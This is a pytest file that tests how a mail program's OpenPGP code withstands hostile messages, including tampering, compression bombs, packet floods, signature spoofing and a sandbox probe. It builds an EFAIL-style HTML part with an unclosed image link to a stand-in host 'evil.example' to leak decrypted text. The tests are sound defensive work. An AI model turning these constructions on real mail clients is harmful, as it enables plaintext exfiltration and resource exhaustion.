"""Hostile OpenPGP: each is answered within 2 s and 200 MB by one plain word, and the raw message stays as it is."""

from __future__ import annotations

import base64
import json
import multiprocessing
import resource
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ProcessPoolExecutor
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.mail.gpg import OURS, Gpg, encrypted, entity, knowing, outer, read, signed
from waystation.bounded import process
from waystation.mail.compose import compose
from waystation.mail.openpgp import calling, program
from waystation.mail.openpgp.opening import describe
from waystation.mail.openpgp.places import dearmored
from waystation.mail.openpgp.writing import Made, protect
from waystation.mail.parse import parse

ANNA, MALLORY = "anna@example.net", "mallory@example.net"
pytestmark = pytest.mark.real


@pytest.fixture(scope="module")
def gpg(tmp_path_factory: pytest.TempPathFactory, ours: Made) -> Iterator[Gpg]:
    with knowing(ours, tmp_path_factory.mktemp("g"), ANNA, MALLORY) as person:
        yield person


@pytest.fixture(autouse=True)
def _counted(monkeypatch: pytest.MonkeyPatch) -> None:
    """What a zygote has used is counted when it ends: here each ends with its child."""
    monkeypatch.setattr(calling, "_RANDOM", tuple(program.COMMANDS))


def armored(packets: bytes) -> bytes:
    return b"-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(packets) + b"-----END PGP MESSAGE-----\n"


def packets(message: bytes) -> tuple[bytes, bytes]:
    """The session key and the protected data of a short message of GnuPG's, which have one-octet lengths."""
    assert message[0] == 0x84
    return message[: 2 + message[1]], message[2 + message[1] :]


@pytest.fixture(scope="module")
def whole(gpg: Gpg) -> bytes:
    return dearmored(gpg.seal(entity("Hello"), "", "-z", "0"))


def test_what_is_altered_is_not_opened(whole: bytes, ours: Made) -> None:
    assert read(encrypted(armored(whole)), ours).report.encryption == "opened"
    for place in (-1, -10, -22, -40):  # the code that detects modification, its packet, the text
        changed = bytearray(whole)
        changed[place] ^= 1
        assert read(encrypted(armored(bytes(changed))), ours).report.encryption == "damaged"


def test_what_is_cut_is_not_opened(whole: bytes, ours: Made) -> None:
    assert read(encrypted(armored(whole[:-22])), ours).report.encryption == "damaged"


def test_data_without_any_integrity_protection_is_not_opened(whole: bytes, ours: Made) -> None:
    """EFAIL: the tag of the protected packet changed into that of the old one, which has no code."""
    session_key, protected = packets(whole)
    assert protected[0] == 0xD2
    body = protected[2 + (protected[1] >= 192) :][1:]
    old = b"\xc9\xff" + len(body).to_bytes(4, "big") + body
    assert read(encrypted(armored(session_key + old)), ours).report.encryption == "unprotected"


def test_a_compression_bomb(gpg: Gpg, ours: Made) -> None:
    bomb = gpg.seal(bytes(300_000_000), "", "-z", "9")
    assert len(bomb) < 600_000
    assert_bounded(encrypted(bomb), ours, "stopped")


def test_a_literal_that_is_longer_than_it_is(ours: Made) -> None:
    huge = armored(b"\xcb\xff\xff\xff\xff\xf0b\x00\x00\x00\x00\x00text")
    assert_bounded(encrypted(huge), ours, "damaged")
    assert_bounded(outer(b"\r\n" + huge), ours, "damaged")


def test_ten_thousand_packets(whole: bytes, ours: Made) -> None:
    session_key, protected = packets(whole)
    assert_bounded(encrypted(armored(session_key * 10_000 + protected)), ours, "too-much")
    assert_bounded(encrypted(armored(b"\xca\x03PGP" * 10_000 + whole)), ours, "too-much")


def test_a_matryoshka_of_encryption(gpg: Gpg, ours: Made) -> None:
    inner = entity("Hello")
    for depth in range(6):
        opened = read(encrypted(gpg.seal(inner)), ours)
        assert opened.report.encryption == ("opened" if depth < 4 else "too-much")
        inner = encrypted(gpg.seal(inner))
        inner = inner[inner.index(b"Content-Type: multipart") :]


def test_encrypted_parts_among_others_are_not_taken_for_the_whole(gpg: Gpg, ours: Made) -> None:
    """EFAIL's other half: an open <img src=" before the encrypted part and its end after it."""
    sealed = encrypted(gpg.seal(entity("The secret"), ANNA))
    sealed = sealed[sealed.index(b"Content-Type: multipart/encrypted") :]
    mixed = (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil.example/\r\n--m\r\n' + sealed + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--'
    )
    opened = read(outer(mixed), ours, gpg.public(ANNA))
    assert opened.report.partial
    assert parse(opened.inside or b"").text == "The secret"


def test_a_signed_part_lends_nothing_to_what_stands_beside_it(gpg: Gpg, ours: Made) -> None:
    content = entity("I am well").rstrip(b"\r\n")
    part = signed(content, gpg.run("-b", "-a", "-u", ANNA, given=content))
    part = part[part.index(b"Content-Type: multipart/signed") :]
    raw = outer(
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nFalse words\r\n--m\r\n" + part + b"\r\n--m--"
    )
    opened = read(raw, ours, gpg.public(ANNA))
    assert (opened.report.signature, opened.report.partial) == ("good", True)
    assert "False words" not in parse(opened.inside or b"").text


def test_two_pieces_by_two_people_are_not_signed_by_one(gpg: Gpg, ours: Made) -> None:
    both = gpg.seal(b"Mine", ANNA) + b"\n" + gpg.seal(b"Not hers", MALLORY)
    report = read(outer(b"\r\n" + both), ours, gpg.public(ANNA)).report
    assert (report.signature, report.notes) == ("unknown", ("signatures-differ",))


def test_an_unsigned_piece_beside_a_signed_one(gpg: Gpg, ours: Made) -> None:
    both = gpg.seal(b"Mine", ANNA) + b"\n" + gpg.seal(b"Anybody's")
    report = read(outer(b"\r\n" + both), ours, gpg.public(ANNA)).report
    assert (report.signature, report.notes) == ("none", ("signatures-differ",))


def test_a_signature_made_for_somebody_else_and_sent_on(gpg: Gpg, ours: Made) -> None:
    inner = entity("Come at nine", From=ANNA, To="somebody@example.com")
    inner = inner.replace(b'charset="utf-8"', b'charset="utf-8"; protected-headers="v1"')
    opened = read(encrypted(gpg.seal(inner, ANNA), sender=MALLORY), ours, gpg.public(ANNA))
    assert opened.report.notes == ("from-differs", "to-differs")


def test_our_own_message_sent_back(gpg: Gpg, ours: Made) -> None:
    composed = compose(sender=OURS, to=ANNA, subject="s", text="Yes.", date=datetime.now(UTC), domain="example.org")
    back = protect(composed, secret=ours.secret, to=ours.certificate, address=OURS, certificate=ours.certificate)
    report = read(back, ours).report
    assert (report.encryption, report.signature, report.signer) == ("opened", "ours", ours.described.fingerprint)


def test_the_same_protected_bytes_are_told_again(gpg: Gpg, ours: Made) -> None:
    sealed = gpg.seal(entity("Hello"), ANNA)
    first = read(encrypted(sealed), ours).report
    again = read(encrypted(sealed.replace(b"\n", b"\r\n"), sender=MALLORY, subject="new"), ours).report
    other = read(encrypted(gpg.seal(entity("Hello"), ANNA)), ours).report
    assert first.digest == again.digest != other.digest


def test_a_secret_key_is_not_taken_for_a_public_one(gpg: Gpg, ours: Made) -> None:
    secret = gpg.run("--export-secret-keys", "-a", MALLORY)
    raw = outer(b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: application/pgp-keys\r\n\r\n")
    assert read(raw + secret + b"\r\n--m--", ours).report.certificates == ()


def test_thousands_of_keys_and_a_key_of_thousands_of_names(gpg: Gpg, ours: Made) -> None:
    one = gpg.public(MALLORY)
    keys = base64.encodebytes(one * 5000)
    body = b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + keys + b"-----END PGP PUBLIC KEY BLOCK-----\n"
    assert_bounded(outer(b"\r\n" + body), ours, "none")
    assert describe(one * 5000) == ()
    assert len(describe(one * 20)) >= 1


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"=",
        b"\x00",
        b"-----END PGP MESSAGE-----",
        b"\n\nAAAA\n=AAAA\n-----END PGP MESSAGE-----",
        b"\n\n\xff\xfe\n-----END PGP MESSAGE-----",
        b"\n" + b"Comment: x\n" * 100_000 + b"\nwcBM\n-----END PGP MESSAGE-----",
    ],
)
def test_broken_armor(body: bytes, ours: Made) -> None:
    text = b"-----BEGIN PGP MESSAGE-----" + body
    for raw in (outer(b"\r\n" + text), encrypted(text)):
        opened = read(raw, ours)
        assert opened.inside is None
        assert opened.report.encryption in ("none", "damaged")


def test_many_begins_and_no_end(ours: Made) -> None:
    assert_bounded(outer(b"\r\n" + b"-----BEGIN PGP MESSAGE-----\r\n" * 200_000), ours, "none")


def test_an_answer_of_the_process_that_makes_no_sense(monkeypatch: pytest.MonkeyPatch, ours: Made) -> None:
    for answer in (b"\x00\x00\x00\x02[]", b"\xff\xff\xff\xff", b"\x00\x00\x00\x12" + b'{"encryption": 5.1}', None):
        monkeypatch.setattr(process, "run", lambda *_, answer=answer: answer)
        assert read(outer(b"\r\npgp"), ours).report.encryption == "stopped"


_CURIOUS = """
import json, socket, sys
sys.path += sys.argv[1:3]
from waystation.mail.openpgp import program

def curious(head, raw):
    found = {}
    for name, attempt in (("file", lambda: open("/etc/hostname")), ("net", socket.socket)):
        try:
            attempt()
            found[name] = "reached"
        except OSError as error:
            found[name] = type(error).__name__
    return found, b""

program.COMMANDS["open"] = curious
program.main(["open"])
"""


def test_the_process_reaches_no_file_and_no_network() -> None:
    packages = calling.program(alone=True).packages
    sources = str(Path(program.__file__).parents[3])
    started = [sys.executable, "-I", "-S", "-c", _CURIOUS, sources, packages]
    answer = subprocess.run(started, input=b"\x00\x00\x00\x02{}", capture_output=True, check=True).stdout
    assert json.loads(answer[4:]) == {"file": "PermissionError", "net": "PermissionError"}


def measured(raw: bytes, ours: Made) -> tuple[str, bytes | None, float, int]:
    """How it was opened, what was inside, and what that took of processor time (s) and of memory (KiB)."""
    calling._RANDOM = tuple(program.COMMANDS)
    opened = read(raw, ours)
    took = resource.getrusage(resource.RUSAGE_CHILDREN)
    return opened.report.encryption, opened.inside, took.ru_utime + took.ru_stime, took.ru_maxrss


def assert_bounded(raw: bytes, ours: Made, expected: str) -> None:
    """Within 2 s of processor time and 200 MB; the limits are whole seconds.

    Asked in a small process of its own: a child counts as its own what its parent held in memory as it began.
    """
    with ProcessPoolExecutor(1, multiprocessing.get_context("spawn")) as alone:
        encryption, inside, seconds, most = alone.submit(measured, raw, ours).result()
    assert seconds < program.CPU_SECONDS + 1
    assert most < program.MEMORY_BYTES // 1024
    assert (encryption, inside) == (expected, None)
    assert b"Message-ID: <1@example.net>" in raw
